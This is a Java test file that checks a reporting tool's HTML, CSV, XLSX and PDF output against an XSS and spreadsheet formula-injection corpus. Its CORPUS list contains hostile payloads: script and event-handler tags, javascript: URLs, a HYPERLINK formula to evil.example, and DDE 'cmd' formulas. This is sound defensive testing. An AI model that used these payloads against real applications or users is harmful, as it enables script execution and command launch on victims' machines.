package eu.strateg.reporting.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import eu.strateg.core.indicator.Indicator;
import eu.strateg.core.observation.Observation;
import eu.strateg.core.port.ReportInput;
import eu.strateg.core.port.ReportRenderer;
import eu.strateg.core.project.Project;
import eu.strateg.core.strategy.Element;
import eu.strateg.core.strategy.Lifecycle;
import eu.strateg.core.strategy.Link;
import eu.strateg.core.strategy.Strategy;
import eu.strateg.core.strategy.StrategyId;
import eu.strateg.core.territory.Territory;
import eu.strateg.reporting.ExampleReports;
import eu.strateg.reporting.StandardRenderers;
import eu.strateg.reporting.model.CellText;
import eu.strateg.testkit.ExampleStrategies;
import eu.strateg.testkit.reliability.SpreadsheetSplit;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.Supplier;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * An XSS and formula-injection corpus (classic vectors from the OWASP filter-evasion cheat sheet and spreadsheet
 * injection payloads) put, one payload at a time, into every text field of a strategy, its territory, lifecycle,
 * elements, links, indicators, projects and observations. For each payload: the HTML has no script element, no
 * event-handler attribute and no javascript: or data: URL; every CSV and XLSX text cell that could start a formula is
 * neutralised. The PDF is checked once with every payload at once: no JavaScript, no open action, no script link.
 */
class XssCorpusTest {

    static final List<String> CORPUS = List.of(
            "<script>alert(1)</script>", "<SCRIPT SRC=//xss.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
            "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>", "<object data=\"javascript:alert(1)\">", "<embed src=javascript:alert(1)>",
            "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
            "<div style=\"background:url(javascript:alert(1))\">", "<style>@import 'javascript:alert(1)';</style>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">",
            "<form action=javascript:alert(1)><button>x</button></form>", "{{7*7}}", "{% for x in range(9) %}x{% endfor %}", "${7*7}",
            "<!--<script>alert(1)//-->", "<![CDATA[<script>alert(1)</script>]]>", "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\u202e<script>alert(1)</script>", "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=HYPERLINK(\"http://evil.example\",\"x\")",
            "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-2+3+cmd|' /C calc'!A0",
            // issue 13.9: Czech and Polish Excel split on ';', so a formula must not start after a separator inside a text
            "x;=2+3;", "x,=2+3,", "a;@SUM(1;1);b", "x\";=1+1;\"", "x;\t=1+1", "x\n=1+1");

    private static final ReportRenderer HTML = renderer("html");
    private static final ReportRenderer CSV = renderer("csv");
    private static final ReportRenderer XLSX = renderer("xlsx");
    private static final ReportRenderer PDF = renderer("pdf");

    static List<String> corpus() {
        return CORPUS;
    }

    @ParameterizedTest
    @MethodSource("corpus")
    void aPayloadInEveryTextFieldGivesNoActiveContentInHtmlAndNoFormulaInCsvOrXlsx(String payload) throws IOException {
        ReportInput input = hostile(() -> payload);

        assertSafeHtml(render(HTML, input), payload);
        assertNeutralisedCsv(render(CSV, input));
        assertNeutralisedXlsx(render(XLSX, input));
    }

    @Test
    void everyPayloadAtOnceGivesAPdfWithoutScriptsOrScriptLinks() throws IOException {
        int[] next = {0};
        byte[] pdf = render(PDF, hostile(() -> CORPUS.get(next[0]++ % CORPUS.size())));
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            assertThat(doc.getDocumentCatalog().getNames() == null || doc.getDocumentCatalog().getNames().getJavaScript() == null).isTrue();
            assertThat(doc.getDocumentCatalog().getOpenAction()).isNull();
            for (PDPage page : doc.getPages()) {
                assertThat(page.getActions() == null || page.getActions().getCOSObject().size() == 0).isTrue();
                for (PDAnnotation a : page.getAnnotations()) {
                    if (a instanceof PDAnnotationLink link) {
                        assertThat(link.getAction()).isNotInstanceOf(PDActionJavaScript.class);
                        if (link.getAction() instanceof PDActionURI uri) {
                            assertThat(uri.getURI().strip().toLowerCase(Locale.ROOT)).doesNotStartWith("javascript:").doesNotStartWith("data:");
                        }
                    }
                }
            }
        }
    }

    private static void assertSafeHtml(byte[] html, String payload) {
        Document doc = Jsoup.parse(new String(html, StandardCharsets.UTF_8));
        assertThat(doc.select("script, iframe, object, embed, base, meta[http-equiv], form, math, svg script").size())
                .as("active elements for %s", payload).isZero();
        for (org.jsoup.nodes.Element el : doc.getAllElements()) {
            for (Attribute a : el.attributes()) {
                String value = a.getValue().replaceAll("[\\s\\u0000-\\u001f]", "").toLowerCase(Locale.ROOT);
                assertThat(a.getKey().toLowerCase(Locale.ROOT)).as("%s in <%s> for %s", a.getKey(), el.tagName(), payload).doesNotStartWith("on");
                assertThat(value).as("%s=%s in <%s> for %s", a.getKey(), a.getValue(), el.tagName(), payload)
                        .doesNotStartWith("javascript:").doesNotStartWith("vbscript:").doesNotStartWith("data:text");
            }
        }
    }

    private static void assertNeutralisedCsv(byte[] csv) {
        String text = new String(csv, StandardCharsets.UTF_8);
        for (String cell : cells(text)) {
            if (CellText.isDangerous(cell)) {
                assertThat(cell).as("a CSV cell starting a formula").matches("[-+][0-9.]+(E[-+]?[0-9]+)?");
            }
        }
        assertThat(SpreadsheetSplit.formulaCells(text)).as("cells starting a formula when split on ',' or ';'").isEmpty();
    }

    private static void assertNeutralisedXlsx(byte[] xlsx) throws IOException {
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Sheet sheet : wb.getSheets().toList()) {
                for (Row row : sheet.read()) {
                    for (Cell cell : row) {
                        if (cell != null) {
                            assertThat(cell.getType()).isNotEqualTo(CellType.FORMULA);
                            if (cell.getType() == CellType.STRING) {
                                assertThat(cell.asString()).as("%s %s", sheet.getName(), cell.getAddress()).doesNotMatch("(?s)'[=+\\-@\t\r].*");
                            }
                        }
                    }
                }
            }
        }
    }

    /** The cells of an RFC 4180 CSV text. */
    private static List<String> cells(String csv) {
        List<String> out = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\n' || c == ';') {
                out.add(cell.toString());
                cell.setLength(0);
            } else if (c != '\r' && c != '\uFEFF') {
                cell.append(c);
            }
        }
        out.add(cell.toString());
        return out;
    }

    /** The example report with {@code text} in every text field; link codes get a payload short enough to be a code. */
    private static ReportInput hostile(Supplier<String> text) {
        Strategy s = ExampleStrategies.smallTown();
        List<Element> elements = new ArrayList<>();
        for (Element e : s.elements()) {
            elements.add(new Element(e.code(), e.parentCode(), e.kind(), text.get(), text.get(), text.get(), e.weight(), e.indicatorCodes(),
                    e.links().stream().map(l -> new Link(l.scheme(), shortened(text.get()), text.get())).toList()));
        }
        List<Indicator> indicators = new ArrayList<>();
        for (Indicator i : s.indicators()) {
            indicators.add(new Indicator(i.code(), text.get(), text.get(), text.get(), i.type(), i.direction(), i.periodicity(), i.baseline(),
                    i.target(), i.milestones(), i.naturalLimit(), i.method(), i.displayDecimals(), text.get(), i.formula(), text.get(), i.weight()));
        }
        List<Project> projects = new ArrayList<>();
        for (Project p : s.projects()) {
            projects.add(new Project(p.code(), text.get(), text.get(), p.measureCodes(), p.status(), p.planned(), p.actual(), p.budget(),
                    text.get(), p.indicatorCodes()));
        }
        Strategy hostile = new Strategy(StrategyId.of("xss-zdar"), s.revision(), new Territory(s.territory().code(), text.get(),
                s.territory().level(), null), text.get(), s.kind(), s.period(), Lifecycle.adopted(LocalDate.of(2021, 6, 1), text.get()),
                List.of(text.get(), text.get(), text.get(), text.get()), text.get(), elements, indicators, projects);
        ReportInput base = ExampleReports.zdar(hostile, Locale.ENGLISH);
        List<Observation> observations = new ArrayList<>();
        for (Observation o : base.observations()) {
            observations.add(o.withSource(text.get(), text.get()));
        }
        observations.add(Observation.of("CYC-KM", "2024", "1.5").withDisaggregation(Map.of(shortened(text.get()), text.get())));
        return new ReportInput(hostile, base.evaluation(), observations, Locale.ENGLISH);
    }

    private static String shortened(String s) {
        return s.length() <= 100 ? s : s.substring(0, 100);
    }

    private static ReportRenderer renderer(String format) {
        return StandardRenderers.forFormat(format, null).orElseThrow();
    }

    private static byte[] render(ReportRenderer r, ReportInput input) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            r.render(input, out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
